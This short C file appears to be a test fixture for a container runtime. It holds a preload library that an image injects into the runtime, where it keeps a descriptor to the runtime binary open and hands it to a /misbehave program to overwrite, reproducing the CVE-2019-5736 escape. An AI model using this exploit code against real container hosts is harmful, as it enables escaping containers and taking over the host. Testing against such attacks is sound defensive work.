/* A library that a hostile image has the dynamic linker load (LD_PRELOAD) into whatever program is
 * started: the runtime itself, if the image's command is "#!/proc/self/exe". It keeps a descriptor
 * of that program and makes way for /misbehave, which then tries to write to it: CVE-2019-5736. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void become_hostile(void) {
  const int program = open("/proc/self/exe", O_RDONLY); /* stays open over the exec */
  char number[16];
  snprintf(number, sizeof number, "%d", program);
  char* const arguments[] = {(char*)"/misbehave", (char*)"rewrite", number, NULL};
  char* const nothing[] = {NULL};
  fprintf(stderr, "loaded into the runtime\n");
  execve(arguments[0], arguments, nothing);
}
